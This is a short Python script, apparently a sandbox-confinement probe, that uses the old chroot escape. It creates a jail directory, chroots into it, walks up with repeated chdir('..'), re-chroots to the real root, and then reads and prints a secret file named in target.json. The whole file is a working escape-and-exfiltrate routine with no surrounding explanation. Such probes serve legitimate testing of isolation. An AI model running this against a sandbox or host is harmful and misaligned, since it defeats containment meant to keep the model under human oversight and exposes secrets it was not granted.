"""Leaves its root the old way: chroot into a folder, then up."""

import json
import os

os.mkdir("jail")
try:
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED", open(json.load(open("target.json"))["secret"]).read())
except OSError:
    pass
